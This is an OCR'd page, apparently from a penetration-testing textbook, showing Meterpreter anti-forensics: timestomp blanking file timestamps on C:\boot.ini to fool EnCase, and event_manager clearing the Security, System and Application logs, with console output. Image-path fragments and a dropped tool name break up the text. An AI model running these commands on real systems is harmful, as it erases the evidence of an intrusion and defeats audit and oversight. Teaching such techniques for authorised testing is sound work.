background image

Simulated Penetration Test



    -a <opt>  Set the "last accessed" time of the file
    -b        Set the MACE timestamps so that EnCase shows blanks
    -c <opt>  Set the "creation" time of the file
    -e <opt>  Set the "mft entry modified" time of the file
    -f <opt>  Set the MACE of attributes equal to the supplied file
    -h        Help banner
    -m <opt>  Set the "last written" time of the file
    -r        Set the MACE timestamps recursively on a directory
    -v        Display the UTC MACE values of the file
    -z <opt>  Set all four attributes (MACE) of the file

meterpreter >

timestomp C:\\boot.ini -b

[*] Blanking file MACE attributes on C:\boot.ini
meterpreter >

In this example, we changed the timestamp so that when Encase (a popularforensics analysis tool) is used, the timestamps are blank.

The tool


 will modify event logs so that they don’t show any

information that might reveal that an attack occurred. Here it is in action:

meterpreter >

run event_manager

Meterpreter Script for Windows Event Log Query and Clear.


    -c <opt>  Clear a given Event Log (or ALL if no argument specified)
    -f <opt>  Event ID to filter events on
    -h        Help menu
    -i        Show information about Event Logs on the System and their configuration
    -l <opt>  List a given Event Log.
    -p        Supress printing filtered logs to screen
    -s <opt>  Save logs to local CSV file, optionally specify alternate folder in which to

save logs

meterpreter >

run event_manager -c

[-] You must specify an eventlog to query!
[*] Application:
[*] Clearing Application
[*] Event Log Application Cleared!
[*] MailCarrier 2.0:[*] Clearing MailCarrier 2.0
[*] Event Log MailCarrier 2.0 Cleared!
[*] Security:
[*] Clearing Security
[*] Event Log Security Cleared!
[*] System:
[*] ClearingSystem
[*] Event LogSystem Cleared!
meterpreter >